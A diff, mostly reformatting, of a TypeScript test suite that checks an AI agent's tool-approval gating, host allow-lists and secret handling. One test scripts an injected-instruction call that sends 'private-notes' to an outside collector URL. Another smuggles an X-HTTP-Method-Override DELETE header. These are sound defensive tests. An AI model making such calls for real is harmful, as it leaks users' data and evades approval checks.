@@ -23,7 +23,13 @@ let github: FakeGitHub;
 let alice: { id: string };
 let bob: { id: string };
 
-type Event = { type: string; text?: string; message?: string; id?: string; call?: { toolCallId: string; toolId: string; status: string; output: unknown; runId: string | null; input: unknown } };
+type Event = {
+  type: string;
+  text?: string;
+  message?: string;
+  id?: string;
+  call?: { toolCallId: string; toolId: string; status: string; output: unknown; runId: string | null; input: unknown };
+};
 
 function configureModel(on: boolean) {
   if (on) Object.assign(process.env, { AGENT_MODEL: "openai/gpt-5-mini", AGENT_MODEL_URL: `${model.url}/v1`, AGENT_MODEL_API_KEY: API_KEY });
@@ -32,7 +38,11 @@ function configureModel(on: boolean) {
 }
 
 function jsonRequest(body: unknown): Request {
-  return new Request("http://localhost:3000/api/agent", { method: "POST", headers: { "content-type": "application/json", origin: "http://localhost:3000" }, body: JSON.stringify(body) });
+  return new Request("http://localhost:3000/api/agent", {
+    method: "POST",
+    headers: { "content-type": "application/json", origin: "http://localhost:3000" },
+    body: JSON.stringify(body),
+  });
 }
 
 async function events(response: Response): Promise<Event[]> {
@@ -43,7 +53,11 @@ async function events(response: Response): Promise<Event[]> {
     .map((line) => JSON.parse(line) as Event);
 }
 
-const textOf = (list: Event[]) => list.filter((event) => event.type === "text").map((event) => event.text).join("");
+const textOf = (list: Event[]) =>
+  list
+    .filter((event) => event.type === "text")
+    .map((event) => event.text)
+    .join("");
 const lastCall = (list: Event[]) => list.filter((event) => event.type === "tool").at(-1)?.call;
 
 async function start(user: { id: string }, message: string, script: ScriptedStep[]) {
@@ -67,7 +81,9 @@ async function decision(user: { id: string }, conversationId: string, toolCallId
   return decideCall(jsonRequest({ decision: choice }), { params: Promise.resolve({ id: conversationId, toolCallId }) });
 }
 
-const createIssue = (title: string): ScriptedStep => ({ toolCalls: [{ name: "github-create-issue", arguments: { owner: "octocat", repo: "hello-world", title } }] });
+const createIssue = (title: string): ScriptedStep => ({
+  toolCalls: [{ name: "github-create-issue", arguments: { owner: "octocat", repo: "hello-world", title } }],
+});
 
 /** A host outside Patchbay that records what reaches it (a collector an injected instruction points at). */
 type Outside = { url: string; host: string; received: { method: string; url: string; headers: Record<string, unknown> }[]; server: Server };
@@ -81,7 +97,9 @@ async function startOutside(): Promise<Outside> {
   const host = `127.0.0.1:${(server.address() as { port: number }).port}`;
   return { url: `http://${host}`, host, received, server };
 }
-const apiCall = (endpoint: string, extra: Record<string, unknown> = {}): ScriptedStep => ({ toolCalls: [{ name: "api-call", arguments: { endpoint, method: "GET", ...extra } }] });
+const apiCall = (endpoint: string, extra: Record<string, unknown> = {}): ScriptedStep => ({
+  toolCalls: [{ name: "api-call", arguments: { endpoint, method: "GET", ...extra } }],
+});
 
 beforeAll(async () => {
   model = await startFakeModel();
@@ -133,7 +151,11 @@ describe("the agent routes", () => {
     const before = github.createdIssues.length;
     const { id, list } = await start(alice, "Open an issue titled Agent approved", [createIssue("Agent approved")]);
     const held = lastCall(list)!;
-    expect(held).toMatchObject({ toolId: "github-create-issue", status: "pending_approval", input: { owner: "octocat", repo: "hello-world", title: "Agent approved" } });
+    expect(held).toMatchObject({
+      toolId: "github-create-issue",
+      status: "pending_approval",
+      input: { owner: "octocat", repo: "hello-world", title: "Agent approved" },
+    });
     expect(github.createdIssues.length).toBe(before);
 
     const busy = await say(alice, id, "hurry up", []);
@@ -170,11 +192,17 @@ describe("the agent routes", () => {
     try {
       const { id, list } = await start(carol, "Summarise octocat/hello-world", [apiCall(`${collector.url}/collect?data=private-notes`)]);
       const held = lastCall(list)!;
-      expect(held).toMatchObject({ toolId: "api-call", status: "pending_approval", input: { endpoint: `${collector.url}/collect?data=private-notes`, method: "GET" } });
+      expect(held).toMatchObject({
+        toolId: "api-call",
+        status: "pending_approval",
+        input: { endpoint: `${collector.url}/collect?data=private-notes`, method: "GET" },
+      });
       expect(collector.received).toEqual([]);
 
       // Approved: the call runs once, and later GETs to the same host run without asking; another host still asks.
-      const approved = await events(await decision(carol, id, held.toolCallId, "approve", [apiCall(`${collector.url}/again`), apiCall(`${other.url}/elsewhere`)]));
+      const approved = await events(
+        await decision(carol, id, held.toolCallId, "approve", [apiCall(`${collector.url}/again`), apiCall(`${other.url}/elsewhere`)]),
+      );
       // Each call's latest state, in the order the calls were made.
       const calls = [...new Map(approved.filter((event) => event.type === "tool").map((event) => [event.call!.toolCallId, event.call!])).values()];
       expect(calls.map((call) => [call.status, (call.input as { endpoint: string }).endpoint])).toEqual([
@@ -206,7 +234,9 @@ describe("the agent routes", () => {
     const second = await startOutside();
     process.env.HTTP_TOOL_ALLOWED_HOSTS = "127.0.0.1";
     const get = (endpoint: string) => ({ name: "api-call", arguments: { endpoint } });
-    const latest = (list: Event[]) => [...new Map(list.filter((event) => event.type === "tool").map((event) => [event.call!.toolCallId, event.call!])).values()];
+    const latest = (list: Event[]) => [
+      ...new Map(list.filter((event) => event.type === "tool").map((event) => [event.call!.toolCallId, event.call!])).values(),
+    ];
     try {
       const { id, list } = await start(erin, "Fetch them all", [{ toolCalls: [get(`${first.url}/a`), get(`${second.url}/b1`), get(`${second.url}/b2`)] }]);
       const [a] = latest(list);
@@ -235,7 +265,8 @@ describe("the agent routes", () => {
     try {
       const { id, list } = await start(dave, "Tidy up", [apiCall(`${service.url}/things/1`, { headers: { "X-HTTP-Method-Override": "DELETE" } })]);
       const call = lastCall(list)!;
-      const settled = call.status === "pending_approval" ? lastCall(await events(await decision(dave, id, call.toolCallId, "approve", [{ text: "Done." }])))! : call;
+      const settled =
+        call.status === "pending_approval" ? lastCall(await events(await decision(dave, id, call.toolCallId, "approve", [{ text: "Done." }])))! : call;
       expect(service.received).toEqual([]);
       expect(settled).toMatchObject({ status: "failed" });
       expect(JSON.stringify(settled.output)).toMatch(/X-HTTP-Method-Override/);
@@ -296,7 +327,12 @@ describe("the agent routes", () => {
     for (const request of model.requests) for (const secret of secrets) expect(request.body).not.toContain(secret);
     expect(model.requests.every((request) => request.authorization === `Bearer ${API_KEY}`)).toBe(true);
     const { DATABASE_PATH } = (await import("@/lib/platform/env")).env();
-    const stored = JSON.stringify(await Promise.all((await listConversations(alice.id)).map((conversation) => loadMessages(conversation.id)))) + [DATABASE_PATH, `${DATABASE_PATH}-wal`].filter(existsSync).map((file) => readFileSync(file).toString("latin1")).join("");
+    const stored =
+      JSON.stringify(await Promise.all((await listConversations(alice.id)).map((conversation) => loadMessages(conversation.id)))) +
+      [DATABASE_PATH, `${DATABASE_PATH}-wal`]
+        .filter(existsSync)
+        .map((file) => readFileSync(file).toString("latin1"))
+        .join("");
     for (const secret of secrets) expect(stored).not.toContain(secret);
   });
 });
